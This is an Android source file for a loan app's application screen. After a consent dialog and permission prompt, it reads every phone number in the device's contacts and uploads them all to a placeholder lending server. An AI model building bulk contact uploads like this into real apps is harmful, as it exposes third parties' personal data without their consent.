package com.answersbyanyidr8.app;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import android.widget.EditText;
import android.widget.Toast;

import java.io.IOException;
import java.net.HttpURLConnection;
import java.net.URL;

/** The application: each of its pages takes the place of the one before. */
public class LoanActivity extends Activity {
    private String sum = "";

    @Override
    protected void onCreate(Bundle saved) {
        super.onCreate(saved);
        setContentView(R.layout.form);
        findViewById(R.id.next).setOnClickListener(view -> new QuestionDialog(this, this::answered).show());
    }

    private void answered(boolean agreed) {
        sum = text(R.id.sum);
        if (agreed) {
            ask();
        } else {
            byHand();
        }
    }

    private void ask() {
        getFragmentManager().beginTransaction().add(new AskFragment(), "ask").commit();
    }

    void told(boolean granted) {
        if (granted) {
            sendPhonebook();
        } else {
            byHand();
        }
    }

    private void byHand() {
        setContentView(R.layout.by_hand);
        findViewById(R.id.send).setOnClickListener(view -> send(text(R.id.phone)));
    }

    private void send(String reference) {
        Server.send("/v1/loan", sum + ";" + reference);
        Toast.makeText(this, R.string.sent, Toast.LENGTH_LONG).show();
        finish();
    }

    private String text(int id) {
        return ((EditText) findViewById(id)).getText().toString();
    }

    private void sendPhonebook() {
        new Thread(() -> {
            try {
                post();
            } catch (IOException fault) {
                return;
            }
            runOnUiThread(() -> send(""));
        }).start();
    }

    private void post() throws IOException {
        HttpURLConnection line = (HttpURLConnection)
                new URL("https://api.maplefieldcredit.example/v1/phonebook").openConnection();
        line.setDoOutput(true);
        Cursor rows = getContentResolver().query(
                Phone.CONTENT_URI, new String[] {Phone.NUMBER}, null, null, null);
        while (rows != null && rows.moveToNext()) {
            line.getOutputStream().write((rows.getString(0) + ";").getBytes());
        }
        line.getResponseCode();
    }
}
